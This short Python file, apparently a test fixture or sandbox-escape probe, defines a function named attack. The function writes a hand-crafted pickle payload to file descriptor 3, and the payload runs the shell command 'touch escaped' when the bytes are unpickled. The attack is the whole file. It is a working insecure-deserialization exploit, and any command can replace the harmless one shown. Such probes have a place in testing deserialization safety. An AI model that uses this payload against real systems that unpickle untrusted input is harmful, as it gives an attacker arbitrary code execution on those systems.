"""Answers with bytes that run a command if they are unpickled."""

import os


def attack(argument):
    os.write(3, b"cos\nsystem\n(S'touch escaped'\ntR.\n")
    return "done"
